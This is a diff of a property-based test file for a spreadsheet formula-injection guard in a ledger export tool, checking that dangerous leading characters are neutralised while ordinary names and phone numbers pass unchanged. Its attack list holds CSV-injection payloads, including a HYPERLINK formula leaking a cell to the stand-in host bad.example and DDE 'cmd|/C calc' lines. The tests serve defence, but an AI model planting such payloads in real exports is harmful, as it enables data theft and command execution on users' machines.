@@ -10,24 +10,121 @@ import { aLedgerToExport, fileOf } from './support.ts'
 const mapping = (name: string) => join(import.meta.dirname, '../../../samples/exports', name)
 
 test('a guarded text starts with nothing that a spreadsheet calculates, and comes back as it was', () => {
-  const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '−', "'", ' ', '\u00a0', '\u200b', '\ufeff', '')
-  const nasty = fc.tuple(start, start, start, fc.string({ unit: 'binary' })).map(parts => parts.join(''))
+  const part = fc.constantFrom(
+    '=',
+    '+',
+    '-',
+    '@',
+    '\t',
+    '\r',
+    '\n',
+    ';',
+    ',',
+    '＝',
+    '＋',
+    '－',
+    '＠',
+    '−',
+    "'",
+    '"',
+    ' ',
+    '\u00a0',
+    '\u200b',
+    '\ufeff',
+    '5',
+    'A1',
+    'F(',
+    '|',
+    '!',
+  )
+  const nasty = fc.tuple(fc.array(part, { maxLength: 12 }), fc.string({ unit: 'binary' })).map(([parts, text]) => parts.join('') + text)
   fc.assert(
     fc.property(nasty, text => {
       const guarded = guardFormula(text)
 
-      assert.doesNotMatch(guarded, /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠−]|^[\t\r\n]/u)
+      if (!/^[+-][\d ()./,-]+$/.test(guarded)) assert.doesNotMatch(guarded, /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠−]|^[\t\r\n]/u)
+      for (const piece of guarded.split(/[;,\t\r\n]/).slice(1)) assert.doesNotMatch(piece, /^[\s"]*[=＝]|^[\s"]*[+\-@＋－＠−].*[(|!]/)
       assert.equal(unguardFormula(guarded), text)
     }),
   )
-  assert.deepEqual(['007', 'a=b', '5-1', "'s-Hertogenbosch", 'Ünal'].map(guardFormula), ['007', 'a=b', '5-1', "'s-Hertogenbosch", 'Ünal'])
+})
+
+test('the guard stops what is known to be tried, and leaves names, numbers, telephones and lists as they are', () => {
+  const attacks = [
+    '=1+1',
+    '+1+1',
+    '-1+1',
+    '@SUM(1+1)',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '\u00a0=1+1',
+    '＝1+1',
+    '＋A1',
+    '−A1',
+    '＠SUM（1）',
+    '=HYPERLINK("http://bad.example?"&A1,"open")',
+    "=cmd|'/C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '+31612345678=A1',
+    '+31-A1',
+  ]
+  const behind = ['Acme;=1+1', 'Acme,=1+1', 'Acme\n=1+1', ';=1+1', 'Acme","=1+1', "Acme;-2+3+cmd|' /C calc'!A0", 'Acme, @SUM(A1)', 'Acme;＝A1']
+  const plain = [
+    '007',
+    'a=b',
+    '5-1',
+    "'s-Hertogenbosch",
+    'Ünal',
+    '-5',
+    '+5,25',
+    '+31 (0)6 12.34-56/78',
+    '+31612345678',
+    'Gebeld:\n- Jan\n- Piet',
+    'Bos, @jan',
+    'x, -10%',
+  ]
+
+  assert.deepEqual(
+    attacks.filter(text => !guardFormula(text).startsWith("'")),
+    [],
+  )
+  assert.deepEqual(
+    behind.filter(text => /[;,\n]["\s]*[=+\-@＝]/.test(guardFormula(text))),
+    [],
+  )
+  assert.deepEqual(plain.map(guardFormula), plain)
+  assert.deepEqual(
+    [...attacks, ...behind].map(text => unguardFormula(guardFormula(text))),
+    [...attacks, ...behind],
+  )
 })
 
 /** A text as the ledger may hold it: trimmed, with line ends as one line feed. */
 const texts = (isXml: boolean) =>
   fc
     .tuple(
-      fc.constantFrom('=1+1', '+31 20', '-5', '@x', "'=2", '＝3', '"', ';', 'a;"b"\nc', '<&]]>', '&#13;', '&amp;', 'שלום \u202eabc', '😀', '00', 'x\ry', ''),
+      fc.constantFrom(
+        '=1+1',
+        '+31 20',
+        '+31 20 123 45',
+        'a;=1',
+        '-5',
+        '@x',
+        "'=2",
+        '＝3',
+        '"',
+        ';',
+        'a;"b"\nc',
+        '<&]]>',
+        '&#13;',
+        '&amp;',
+        'שלום \u202eabc',
+        '😀',
+        '00',
+        'x\ry',
+        '',
+      ),
       fc.string({ unit: 'binary', maxLength: 30 }),
     )
     .map(parts => parts.join(''))
